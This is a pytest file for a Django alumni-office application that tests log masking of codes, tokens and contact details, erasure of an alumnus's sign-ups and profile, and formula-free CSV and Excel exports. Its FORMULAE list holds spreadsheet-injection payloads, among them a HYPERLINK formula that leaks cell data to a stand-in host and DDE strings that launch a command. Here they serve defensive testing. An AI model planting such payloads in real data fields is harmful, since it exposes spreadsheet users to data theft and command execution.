"""Privacy (issue 10, item 10): no code, token, e-mail address or phone number in the log;
an alumnus's erasure reaches their public sign-ups and their published profile; no export
carries a live spreadsheet formula."""

import csv
import io
import logging
import re
from datetime import timedelta

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from activities.models import Registration, RegistrationStatus
from activities.services import registration_create, registration_token
from alumni.admin import AlumnusResource
from alumni.models import AlumniProfile
from audience.errors import CodeDeliveryError, CodeInvalidError
from audience.models import BindingCode, Channel
from audience.services import alumnus_erase, binding_code_send, binding_code_verify
from editorial.models import State
from tests.factories import (
    ActivityFactory,
    AlumniProfileFactory,
    AlumnusFactory,
    DonationProjectFactory,
    FollowerFactory,
    GiftFactory,
    RegistrationFactory,
)

pytestmark = pytest.mark.django_db

PHONE = "13800138000"
EMAIL = "zhang.wei@example.com"
# What a self-service field or a public form can carry into the office's spreadsheet.
FORMULAE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")',
    "==1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_a_binding_code_and_its_destination_never_reach_the_log(caplog):
    caplog.set_level(logging.DEBUG)
    alumnus = AlumnusFactory(name="张伟", phone=PHONE, email=EMAIL)
    follower = FollowerFactory()

    binding_code_send(follower=follower, alumnus=alumnus, channel=Channel.EMAIL)
    code = re.search(r"\b(\d{6})\b", mail.outbox[-1].body).group(1)
    wrong = f"{(int(code) + 1) % 10**6:06d}"
    with pytest.raises(CodeInvalidError):
        binding_code_verify(follower=follower, code=wrong)
    binding_code_verify(follower=follower, code=code)

    logged = caplog.text
    assert "Binding code" in logged and "bound to alumnus" in logged  # the flow did log
    for secret in (code, wrong, EMAIL, "zhang.wei", PHONE, "张伟"):
        assert secret not in logged


def test_a_phone_code_is_never_printed_outside_debug(capsys, settings):
    settings.DEBUG = False
    alumnus = AlumnusFactory(phone=PHONE)

    with pytest.raises(CodeDeliveryError):
        binding_code_send(follower=FollowerFactory(), alumnus=alumnus, channel=Channel.PHONE)

    printed = capsys.readouterr()
    assert not re.search(r"\d{6}", printed.out + printed.err)
    assert not BindingCode.objects.exists()


def test_a_code_for_the_console_mail_backend_is_refused_outside_debug(capsys, settings):
    settings.DEBUG = False
    settings.EMAIL_BACKEND = "django.core.mail.backends.console.EmailBackend"
    alumnus = AlumnusFactory(email=EMAIL)

    with pytest.raises(CodeDeliveryError):
        binding_code_send(follower=FollowerFactory(), alumnus=alumnus, channel=Channel.EMAIL)

    printed = capsys.readouterr()
    assert EMAIL not in printed.out + printed.err
    assert not re.search(r"\d{6}", printed.out + printed.err)


def test_a_cancel_token_in_a_logged_path_is_masked(client, caplog):
    registration = RegistrationFactory(phone=PHONE)
    token = registration_token(registration=registration)

    response = client.get(f"/activities/registration/{token}/no-such-page/")

    assert response.status_code == 404
    assert "Not Found" in caplog.text  # Django's request log names the path
    assert token not in caplog.text
    assert "/activities/registration/***/" in caplog.text


def test_a_searched_phone_number_and_a_callback_signature_are_masked(caplog):
    # How Django's development server logs each request line.
    logging.getLogger("django.server").info(
        '"%s" %s %s',
        f"GET /admin/alumni/alumnus/?q={PHONE}&signature=0123456789abcdef HTTP/1.1",
        "200",
        "5120",
    )

    assert "GET /admin/alumni/alumnus/" in caplog.text
    assert PHONE not in caplog.text and "0123456789abcdef" not in caplog.text


def test_an_email_address_in_an_error_is_masked(caplog):
    logger = logging.getLogger("editorial.notifications")
    try:
        raise OSError(f"recipient refused: {EMAIL}")
    except OSError:
        logger.exception("mail failed")

    assert "z***@example.com" in caplog.text
    assert EMAIL not in caplog.text


def _past_activity(**kwargs):
    activity = ActivityFactory(state=State.PUBLISHED, capacity=None, **kwargs)
    ActivityFactory._meta.model.objects.filter(pk=activity.pk).update(
        starts_at=timezone.now() - timedelta(days=3)
    )
    return activity


def test_erasure_anonymises_signups_made_on_the_public_form(settings):
    alumnus = AlumnusFactory(name="张伟", phone=PHONE)
    activity = _past_activity()
    mine = RegistrationFactory(activity=activity, name="张伟", phone=PHONE, alumnus=None)
    other = RegistrationFactory(activity=activity, name="李娜", phone="13900139000")

    alumnus_erase(alumnus=alumnus)

    mine.refresh_from_db()
    assert (mine.name, mine.phone) == ("匿名校友", "")
    assert mine.status == RegistrationStatus.REGISTERED  # the activity's figures keep it
    assert Registration.objects.filter(activity=activity).count() == 2
    assert Registration.objects.get(pk=other.pk).name == "李娜"


def test_erasure_matches_a_record_phone_written_with_spaces():
    alumnus = AlumnusFactory(phone="+86 138 0013 8000")
    signup = RegistrationFactory(activity=_past_activity(), name="张伟", phone=PHONE)

    alumnus_erase(alumnus=alumnus)

    signup.refresh_from_db()
    assert signup.phone == ""


def test_erasure_cancels_an_upcoming_signup_and_moves_the_waitlist_up():
    alumnus = AlumnusFactory(phone=PHONE)
    activity = ActivityFactory(state=State.PUBLISHED, capacity=1, waitlist_enabled=True)
    mine = registration_create(activity=activity, name="张伟", class_year=2005, phone=PHONE)
    waiting = registration_create(
        activity=activity, name="李娜", class_year=2006, phone="13900139000"
    )

    alumnus_erase(alumnus=alumnus)

    mine.refresh_from_db()
    waiting.refresh_from_db()
    assert (mine.status, mine.name, mine.phone) == (RegistrationStatus.CANCELLED, "匿名校友", "")
    assert waiting.status == RegistrationStatus.REGISTERED


def test_erasure_takes_the_published_profile_off_the_public_pages(client):
    alumnus = AlumnusFactory(name="张伟")
    profile = AlumniProfileFactory(
        alumnus=alumnus, subject_name="张伟", title="张伟：从校园到深空", state=State.PUBLISHED
    )
    profile.published_at = timezone.now()
    profile.save()
    assert client.get(reverse("alumni:profile_detail", args=[profile.pk])).status_code == 200

    alumnus_erase(alumnus=alumnus)

    assert client.get(reverse("alumni:profile_detail", args=[profile.pk])).status_code == 404
    assert "张伟" not in client.get(reverse("alumni:profile_list")).content.decode()
    assert not AlumniProfile.objects.filter(pk=profile.pk).exists()


def test_erasure_leaves_other_alumni_profiles_alone():
    kept = AlumniProfileFactory(state=State.PUBLISHED)

    alumnus_erase(alumnus=AlumnusFactory())

    assert AlumniProfile.objects.filter(pk=kept.pk).exists()


def _live(cell) -> bool:
    return isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def _export_alumni(fmt):
    for n, payload in enumerate(FORMULAE):
        AlumnusFactory(employer=payload, city=payload[:50], notes=payload, phone=f"1380000{n:04d}")
    return fmt().export_data(AlumnusResource().export())


def test_the_alumni_csv_export_has_no_live_formula():
    from import_export.formats.base_formats import CSV

    rows = list(csv.reader(io.StringIO(_export_alumni(CSV))))

    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if _live(cell)] == []
    assert "'" + FORMULAE[0] in cells  # kept, as text


def test_the_alumni_excel_export_has_no_formula_cell():
    openpyxl = pytest.importorskip("openpyxl")
    from import_export.formats.base_formats import XLSX

    sheet = openpyxl.load_workbook(io.BytesIO(_export_alumni(XLSX))).active

    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f" or _live(c.value)] == []


def test_an_exported_alumni_file_imports_back_without_the_apostrophes():
    from import_export.formats.base_formats import CSV

    AlumnusFactory(name="张伟", class_year=2005, phone=PHONE, employer="@某公司")
    exported = CSV().export_data(AlumnusResource().export())
    dataset = CSV().create_dataset(exported)

    result = AlumnusResource().import_data(dataset, dry_run=False)

    assert not result.has_errors() and not result.has_validation_errors()
    assert AlumnusFactory._meta.model.objects.get(phone=PHONE).employer == "@某公司"


def test_the_registrations_csv_export_has_no_live_formula(client, office_admin):
    client.force_login(office_admin)
    activity = ActivityFactory(state=State.PUBLISHED)
    signups = [RegistrationFactory(activity=activity, name=payload[:50]) for payload in FORMULAE]

    response = client.post(
        reverse("admin:activities_registration_changelist"),
        {"action": "export_csv", "_selected_action": [r.pk for r in signups]},
    )

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == len(FORMULAE) + 1
    assert [cell for row in rows for cell in row if _live(cell)] == []


def test_the_dashboard_csv_export_has_no_live_formula(client):
    from django.contrib.auth import get_user_model

    client.force_login(get_user_model().objects.create(username="stats-staff", is_staff=True))
    for payload in FORMULAE:
        GiftFactory(project=DonationProjectFactory(title=payload[:30]))

    response = client.get(reverse("stats:export", args=["donations-by-project"]), {"days": 7})

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == len(FORMULAE) + 1
    assert [cell for row in rows for cell in row if _live(cell)] == []


def test_the_dashboard_excel_export_has_no_formula_cell(client):
    openpyxl = pytest.importorskip("openpyxl")
    from django.contrib.auth import get_user_model

    client.force_login(get_user_model().objects.create(username="stats-staff", is_staff=True))
    for payload in FORMULAE:
        GiftFactory(project=DonationProjectFactory(title=payload[:30]))

    response = client.get(reverse("stats:export_xlsx", args=["donations-by-project"]), {"days": 7})

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(list(sheet.iter_rows())) == len(FORMULAE) + 1
    assert [c.coordinate for c in cells if c.data_type == "f" or _live(c.value)] == []
